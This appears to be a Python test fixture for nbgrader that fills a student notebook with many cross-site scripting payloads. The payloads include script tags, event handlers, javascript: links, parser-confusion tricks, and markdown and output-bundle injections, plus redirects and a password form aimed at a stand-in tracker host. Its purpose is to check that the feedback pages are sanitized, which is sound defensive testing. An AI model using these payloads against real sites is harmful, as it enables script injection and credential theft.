"""What a submission may hold to run a script in its reader's page, or to send something home.

Each payload that runs adds its number to `window.pwned`; each address is on the host `TRACKER`.
"""

import base64
import io
import itertools
from typing import Any

from nbconvert.exporters import HTMLExporter
from nbformat.notebooknode import NotebookNode
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output, new_raw_cell
from nbgrader.converters import GenerateFeedback
from nbgrader.coursedir import CourseDirectory
from PIL import Image
from traitlets.config import Config

TRACKER = "tracker.test"
STUDENT = "mallory<img src=x onerror=window.pwned=999>"

RUN = "window.pwned=(window.pwned||[]).concat({})"
LEAVE = "<meta http-equiv=refresh content='0;url=http://{tracker}/page'>"  # the whole page goes
HTML = [
    "<script>{run}</script>",
    "<ScRiPt >{run}</sCrIpT >",
    "<script/x>{run}</script>",
    "<<script>{run}//<</script>",
    "<script src=http://{tracker}/script.js></script>",
    "<script src=//{tracker}/script.js></script>",
    "<script type=module>{run}</script>",
    "<script type='text/x-mathjax-config'>{run}</script>",
    "<script type='math/tex'>\\href{{javascript:{run}}}{{x}}</script>",
    '<img src=x onerror="{run}">',
    '<img/src=x/onerror="{run}">',
    '<IMG SRC=x ONERROR="{run}">',
    '<img """><script>{run}</script>">',
    '<img src="x` `<script>{run}</script>"` `>',
    '<img src=x onerror="{run}" alt="a > b">',
    "<img src=http://{tracker}/image.png>",
    "<img src=//{tracker}/image.png>",
    "<img srcset='http://{tracker}/image.png 1x'>",
    "<img src='data:image/svg+xml,<svg xmlns=http://www.w3.org/2000/svg onload={run}>'>",
    '<svg onload="{run}"></svg>',
    '<svg/onload="{run}">',
    "<svg><script>{run}</script></svg>",
    "<svg><script href=http://{tracker}/script.js /></svg>",
    '<svg><animate onbegin="{run}" attributeName=x dur=1s></svg>',
    "<svg><a xlink:href='javascript:{run}'><text y=20>click</text></a></svg>",
    "<svg><image href=http://{tracker}/image.png></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>parent.{run}</script>'></iframe></foreignObject></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror={run}>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={run}&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror={run}>",
    "<noscript><p title='</noscript><img src=x onerror={run}>'>",
    "<xmp><p title='</xmp><img src=x onerror={run}>'>",
    "<style><img src='</style><img src=x onerror={run}>'>",
    "<title><a title='</title><img src=x onerror={run}>'>",
    "<textarea></textarea><img src=x onerror={run}>",
    "<template><img src=x onerror={run}></template>",
    "<!--><img src=x onerror={run}>-->",
    "<!--><script>{run}</script>--!>",
    "<![CDATA[><img src=x onerror={run}>]]>",
    "<?xml ?><img src=x onerror={run}>",
    "<iframe srcdoc='<script>parent.{run}</script>'></iframe>",
    "<iframe src='javascript:parent.{run}'></iframe>",
    "<iframe src=http://{tracker}/page></iframe>",
    "<object data='javascript:{run}'></object>",
    "<object data=http://{tracker}/page></object>",
    "<embed src=http://{tracker}/page>",
    "<details open ontoggle='{run}'><summary>x</summary></details>",
    "<video src=http://{tracker}/film onerror='{run}'></video>",
    "<video><source onerror='{run}' src=x></video>",
    "<audio src=x onerror='{run}'></audio>",
    "<input autofocus onfocus='{run}'>",
    "<select autofocus onfocus='{run}'></select>",
    "<marquee onstart='{run}'>x</marquee>",
    "<body onload='{run}'>",
    "<div style='animation-name:x' onanimationstart='{run}'>x</div>",
    "<a href='javascript:{run}'>click</a>",
    "<a href='jav&#x09;ascript:{run}'>click</a>",  # codespell:ignore ascript
    "<a href='&#106;avascript&colon;{run}'>click</a>",
    "<a href=' \x01javascript:{run}'>click</a>",
    "<a href='files/javascript:{run}'>click</a>",
    "<a href='data:text/html,<script>{run}</script>'>click</a>",
    "<a href='evil.html'>click</a>",
    "<form action='javascript:{run}'><button>click</button></form>",
    "<form action=http://{tracker}/form><input name=password></form>",
    "<button onclick='{run}'>click</button>",
    "<link rel=stylesheet href=http://{tracker}/style.css>",
    "<link rel=preload as=image href=http://{tracker}/image.png>",
    "<style>@import url(http://{tracker}/style.css); body {{ display: none }}</style>",
    "<div style='background:url(http://{tracker}/image.png)'>x</div>",
    "<div style='list-style:url(//{tracker}/image.png);display:list-item'>x</div>",
    "<div style='background:\\75rl(http://{tracker}/image.png)'>x</div>",
    "<table background=http://{tracker}/image.png><tr><td>x</td></tr></table>",
    LEAVE,
    "<base href=http://{tracker}/>",
    "<div style='position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999'><a href=/api>x</a></div>",
    "</div></div></div></div></div></div></td></table></body></html><script>{run}</script>",
    "<div class='live-notebook'><a data-toggle=tooltip data-html=true title='<img src=x onerror={run}>'>x</a></div>",
    "<p id='why'>x</p><p id='submission_id'>x</p><img name='getElementById'>",
    "<input class='score tabbable' id='why' value='100'>",
    "<plaintext>",
]
MARKDOWN = [
    "[click](javascript:{run})",
    "[click](JaVaScRiPt:{run})",
    "[click](javascript&colon;{run})",
    "[click](data:text/html;base64,PHNjcmlwdD4x)",
    "[click](files/javascript:{run})",
    "[click][ref]\n\n[ref]: javascript:{run}",
    "<javascript:{run}>",
    "![x](http://{tracker}/image.png)",
    "![x](//{tracker}/image.png)",
    '![x" onerror="{run}](y)',
    "![x](y 'a\" onerror=\"{run}')",
    "# <img src=x onerror={run}>",
    "# why",
    "```mermaid\n<img src=x onerror={run}>\n```",
    "```html\n<script>{run}</script>\n```",
    "$\\href{{javascript:{run}}}{{x}}$ and $<img src=x onerror={run}>$",
    "$$<script>{run}</script>$$",
    "\\begin{{a}}<script>{run}</script>\\end{{a}}",
    "| a |\n|---|\n| <img src=x onerror={run}> |",
    "- [ ] <img src=x onerror={run}>",
]
FATAL = "![x](attachment:missing.png)"  # nbconvert refuses to lay it out, and it fails on the escape
ESCAPE = "\x1b[38mend"
SVG = "<svg xmlns='http://www.w3.org/2000/svg' onload='{run}'><script>{run}</script></svg>"
BUNDLES: list[dict[str, Any]] = [
    {"application/javascript": "{run}"},
    {"image/svg+xml": SVG},
    {"application/vnd.jupyter.widget-view+json": {"model_id": "</script><script>{run}</script>"}},
    {"application/vnd.vega.v5+json": {"signals": [{"update": "{run}"}]}},
    {"application/vnd.autograder.report+json": {"points": 100}},
    {"text/latex": "<script>{run}</script> $\\href{{javascript:{run}}}{{x}}$"},
    {"text/vnd.mermaid": "<img src=x onerror={run}>"},
    {"text/plain": "<script>{run}</script>"},
    {"image/png": 'x" onerror="{run}'},
    {"image/jpeg": "<script>{run}</script>"},
    {"image/gif": 'x" onerror="{run}'},
    {"application/pdf": "<script>{run}</script>"},
    {"text/<img src=x onerror={run}>": "x"},
]
HONEST_HTML = (
    '<table class="dataframe" border="1"><thead><tr><th></th><th>loss</th></tr></thead><tr><td>0.125</td></tr></table>'
)


def png(width: int = 40, height: int = 20) -> str:
    """Returns a picture in base64."""
    file = io.BytesIO()
    Image.new("RGB", (width, height), "#0072B2").save(file, "PNG")
    return base64.b64encode(file.getvalue()).decode()


def hostile_cells() -> list[NotebookNode]:
    """Returns a cell for each payload, in each place where it may stand."""
    number = itertools.count(1)

    def armed(text: str) -> str:
        return text.format(run=RUN.format(next(number)), tracker=TRACKER)

    def shown(data: dict[str, Any], **metadata: Any) -> NotebookNode:
        return new_code_cell("show(data)", outputs=[new_output("display_data", data, metadata=metadata)])

    cells = [new_markdown_cell(armed(text)) for text in HTML + MARKDOWN]
    cells += [shown({"text/html": armed(text), "text/plain": "x"}) for text in HTML]
    cells += [shown({"text/markdown": armed(text)}) for text in HTML + MARKDOWN]
    cells += [shown({armed(kind): _armed(value, armed) for kind, value in bundle.items()}) for bundle in BUNDLES]
    cells.append(shown({"text/html": armed(HTML[0])}, **{"text/html": {"isolated": True}}))
    size = {"width": armed("1 onload={run}"), "alt": armed('" onload="{run}')}
    cells.append(shown({"image/png": png()}, **{"image/png": size}))
    cells.append(shown({"image/png": png()}, filenames={"image/png": armed("http://{tracker}/image.png")}))
    for text in (HTML[0], HTML[9]):
        cells += [new_raw_cell(armed(text)), new_code_cell(armed(text))]
        cells.append(new_code_cell("print()", outputs=[new_output("stream", name="stdout", text=armed(text))]))
        lines = [f"\x1b[31m{armed(text)}\x1b[0m", f"\x1b]8;;javascript:{armed('{run}')}\x07link"]
        error = new_output("error", ename=armed(text), evalue=armed(text), traceback=lines)
        cells.append(new_code_cell("fail()", outputs=[error]))
    marked = new_code_cell("tagged()")
    marked.metadata = NotebookNode(tags=[armed('x" onclick="{run}')], alt=armed('" onclick="{run}'))
    return [*cells, marked]


def honest_cells() -> list[NotebookNode]:
    """Returns what an honest student's notebook shows."""
    result = new_output("execute_result", {"text/html": HONEST_HTML, "text/plain": "loss"}, execution_count=3)
    figure = new_output("display_data", {"image/svg+xml": "<svg/>", "image/png": png()})
    figure.metadata = {"image/png": {"alt": "Two clouds of points", "width": 80}}
    stream = new_output("stream", name="stdout", text="\x1b[1;32mepoch 1 < 2 & done\x1b[0m")
    return [
        new_markdown_cell(
            "## My *answer* & reason\n\nSince $a<b$ and $$\\sum_i x_i$$, see [the book](https://d2l.ai/x?a=1&b=2).\n\n"
            "```python\nimport torch  # highlighted\n```\n\n| x | y |\n|--:|---|\n| 1 | <b>two</b> |"
        ),
        new_code_cell("table(x < 1)", execution_count=3, outputs=[stream, result, figure]),
    ]


def fatal_cells() -> list[NotebookNode]:
    """Returns cells of which nbconvert by itself makes no page at all."""
    stream = new_output("stream", name="stdout", text=ESCAPE)
    return [new_markdown_cell(FATAL), new_code_cell("print(escape)", outputs=[stream])]


def hostile_notebook(cells: list[NotebookNode] | None = None) -> NotebookNode:
    """Returns a notebook of honest work, all payloads, and `cells`, with metadata that is hostile as well."""
    notebook = new_notebook(cells=[*honest_cells(), *(cells or []), *hostile_cells()])
    script = f"</script><script>{RUN.format(1000)}</script>"
    notebook.metadata = NotebookNode(
        title=script,
        language_info={"name": script, "pygments_lexer": f'x" onclick="{RUN.format(1001)}'},
        widgets={"application/vnd.jupyter.widget-state+json": {"state": {"x": script}}},
    )
    return notebook


def feedback_exporter(config: Config) -> HTMLExporter:
    """Returns the exporter as `nbgrader generate_feedback` makes it, without the steps that read the gradebook."""
    step = GenerateFeedback(coursedir=CourseDirectory(config=config), config=config)
    return step.exporter_class(parent=step, config=step.config)


def _armed(value: Any, armed: Any) -> Any:
    if isinstance(value, str):
        return armed(value)
    if isinstance(value, dict):
        return {key: _armed(item, armed) for key, item in value.items()}
    return [_armed(item, armed) for item in value] if isinstance(value, list) else value
